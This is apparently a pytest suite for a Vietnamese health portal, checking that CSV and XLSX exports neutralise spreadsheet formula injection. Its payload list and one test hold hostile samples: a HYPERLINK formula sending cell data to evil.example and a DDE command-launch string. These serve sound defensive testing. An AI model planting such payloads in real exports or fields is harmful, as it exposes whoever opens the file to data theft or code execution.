"""Every export neutralises formulas: parse the CSV and XLSX and look at every cell."""
import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from portal.exports import DANGEROUS_FIRST, neutralise, to_csv, to_xlsx
from portal.extensions import db
from portal.clock import utcnow

from ..factories import establishment, visit, visitor

PAYLOADS = [
    "=1+2", "+84 912 345 678", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd", "\0=cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "=cmd|' /C calc'!A0", "\x01=1+1", "\x0b@x",
]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(body):
    assert body.startswith(b"\xef\xbb\xbf")
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(body):
    workbook = load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_safe_csv(body):
    for cell in csv_cells(body):
        assert not cell.startswith(DANGEROUS_FIRST) or is_number(cell), repr(cell)


def assert_safe_xlsx(body):
    for value, data_type in xlsx_cells(body):
        assert data_type != "f", repr(value)
        if isinstance(value, str):
            assert data_type == "s", repr(value)  # a string cell is never evaluated


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_dangerous_text(payload):
    out = neutralise(payload)
    assert not out.startswith(DANGEROUS_FIRST) or payload.startswith("\x01") or payload.startswith("\x0b")


def test_numbers_dates_and_none_pass_unchanged():
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    when = datetime(2026, 11, 19, 3, 0, tzinfo=timezone.utc)
    assert neutralise(when) == datetime(2026, 11, 19, 3, 0)  # outside an app: UTC, made naive


def test_csv_and_xlsx_hold_no_formula_and_keep_the_text():
    rows = [[p, "Phở, \"ngon\"\nvà rẻ", 42, -3, None] for p in PAYLOADS]
    body = to_csv(["=Header", "Tên"], rows)
    assert_safe_csv(body)
    parsed = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert parsed[0][0] == "'=Header" and parsed[1][0] == "'=1+2" and parsed[1][1] == "Phở, \"ngon\"\nvà rẻ"
    assert parsed[1][2:] == ["42", "-3", ""]
    body = to_xlsx(["=Header", "Tên"], rows, title="Danh sách: [1/2]")
    assert_safe_xlsx(body)
    cells = [v for v, _t in xlsx_cells(body)]
    assert "=1+2" in cells and "=1+1" in cells and 42 in cells and -3 in cells  # no visible quote


def test_old_rows_that_validation_would_reject_still_export(app):
    when = datetime(2026, 11, 19, 20, 0, tzinfo=timezone.utc)
    rows = [["x" * 40000, "bell\x07", when, "\ud7ff ok", "<script>"]]
    assert_safe_xlsx(to_xlsx(["a"], rows))
    [cell] = [v for v, _t in xlsx_cells(to_xlsx(["a"], [[when]])) if isinstance(v, datetime)]
    assert cell == datetime(2026, 11, 20, 3, 0)  # local time in Hồ Chí Minh City
    assert "2026-11-20 03:00" in to_csv(["a"], [[when]]).decode("utf-8")
    assert len([v for v, _t in xlsx_cells(to_xlsx(["a"], rows)) if isinstance(v, str) and v.startswith("xxx")][0]) == 32767


def test_every_official_export_is_safe_with_hostile_names(client, make, login):
    ward = make.wards(1)[0]
    person = visitor()
    for i, payload in enumerate(PAYLOADS):
        clean = payload.replace("\0", "").replace("\x01", "").replace("\x0b", "")
        venue = make.venue(name=f"Quán {i}", ward_code=ward.code, category="market")
        venue.name, venue.address = clean, clean  # old rows today's form would refuse
        establishment(ward, name=clean, address=clean, category="market")  # PostgreSQL holds no NUL
        visit(venue, person, utcnow() - timedelta(days=1), timedelta(hours=1), "auto")
    idle = make.venue(name="Quán yên", ward_code=ward.code)
    idle.name = "=HYPERLINK(\"http://evil.example\")"
    db.session.commit()
    admin = make.user(role="province_admin")
    login(admin)
    from portal.registry.followups import record_follow_up
    from portal.registry.models import Establishment

    first = db.session.scalars(db.select(Establishment)).first()
    record_follow_up(admin, establishment=first, action="reminded", action_on=utcnow().date(), note="=cmd")
    db.session.commit()
    urls = [f"/reports/wards/{ward.code}/{kind}.{fmt}" for kind in ("not-registered", "not-used", "no-exits")
            for fmt in ("csv", "xlsx")]
    urls += [f"/registry/wards/{ward.code}/follow-ups.{fmt}" for fmt in ("csv", "xlsx")]
    urls += [f"/reports/high-risk.{fmt}" for fmt in ("csv", "xlsx")]
    urls += [f"/reports/periodic.{fmt}" for fmt in ("csv", "xlsx")]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".csv"):
            assert_safe_csv(response.data)
            assert len(csv_cells(response.data)) > 10, url
        else:
            assert_safe_xlsx(response.data)
